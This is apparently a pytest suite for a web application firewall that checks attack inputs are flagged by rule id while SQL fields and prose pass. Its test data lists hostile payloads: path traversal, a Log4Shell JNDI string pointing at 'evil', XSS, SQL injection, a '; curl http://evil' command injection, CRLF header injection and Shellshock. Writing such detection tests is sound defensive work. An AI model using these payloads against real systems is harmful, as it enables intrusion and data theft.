"""The firewall fires by rule id on attacks and never on SQL in a SQL field or on people's prose."""

from typing import Any

import orjson
import pytest

from apps.gateway.engine import waf

ATTACKS: list[tuple[str, dict[str, Any]]] = [
    ("W101", {"path": "../../secrets"}),
    ("W101", {"path": "bucket/..%2f..%2fother"}),
    ("W105", {"key": "a\x00b"}),
    ("W202", {"region": "${jndi:ldap://evil/a}"}),
    ("W202", {"comment": "${jndi:ldap://evil/a}"}),
    ("W301", {"theme": "<script>alert(1)</script>"}),
    ("W301", {"deep": [{"theme": "<img src=x onerror = alert(1)>"}]}),
    ("W302", {"table": "users; DROP TABLE users"}),
    ("W302", {"table": "x' OR '1'='1"}),
    ("W302", {"order": "id UNION ALL SELECT password FROM users"}),
    ("W303", {"file": "/etc/passwd"}),
    ("W304", {"host": "a; curl http://evil"}),
]
HARMLESS: list[dict[str, Any]] = [
    {"sql": "SELECT 1; DROP TABLE x -- ' OR '1'='1' UNION SELECT '../../etc/passwd', '<script>'"},
    {"query": {"text": "select pg_sleep(10)"}},
    {"statements": ["DELETE FROM a; DELETE FROM b"]},
    {"comment": "Drop it; delete the old one, and union select something better"},
    {"question": "why do users in ../etc/passwd or <script> appear?"},
    {"row": {"bio": "<script>my own cell</script>"}},
    {"name": "O'Brien and Sons = best", "city": "Baden-Baden; nc or so"},
    {"password": "' or '1'='1"},
]


@pytest.mark.parametrize(
    ("rule", "document"), ATTACKS, ids=[f"{rule}-{index}" for index, (rule, _) in enumerate(ATTACKS)]
)
def test_an_attack_is_found_and_named(rule: str, document: dict[str, Any]) -> None:
    assert waf.is_suspicious_body(orjson.dumps(document))
    found = waf.in_fields(document)
    assert found is not None
    assert found.id == rule


@pytest.mark.parametrize("document", HARMLESS, ids=range(len(HARMLESS)))
def test_sql_fields_secrets_rows_and_prose_pass(document: dict[str, Any]) -> None:
    assert waf.in_fields(document) is None


@pytest.mark.parametrize(
    ("path", "rule"),
    [
        ("/.env", "W102"),
        ("/static/../manage.py", "W101"),
        ("/wp-admin/setup", "W103"),
        ("/index.php", "W104"),
        ("/api/v1/x\x00", "W105"),
        ("/t/acme/%0d%0aSet-Cookie:a", "W106"),
    ],
)
def test_a_probing_path_is_found(path: str, rule: str) -> None:
    found = waf.in_path(path)
    assert found is not None
    assert found.id == rule


@pytest.mark.parametrize("path", ["/", "/t/acme/studio/sql", "/api/v1/data/query", "/.well-known/security.txt"])
def test_an_ordinary_path_passes(path: str) -> None:
    assert waf.in_path(path) is None


def test_scanners_and_shellshock_are_found_in_headers() -> None:
    assert (found := waf.in_headers("text/html\nsqlmap/1.8")) is not None
    assert found.id == "W203"
    assert (found := waf.in_headers("() { :; }; /bin/id")) is not None
    assert found.id == "W201"


def test_rule_ids_are_unique() -> None:
    assert len({rule.id for rule in waf.RULES}) == len(waf.RULES)


def test_a_field_of_the_route_can_be_left_unread() -> None:
    assert waf.in_fields({"template": "<script>"}, unread=frozenset({"template"})) is None
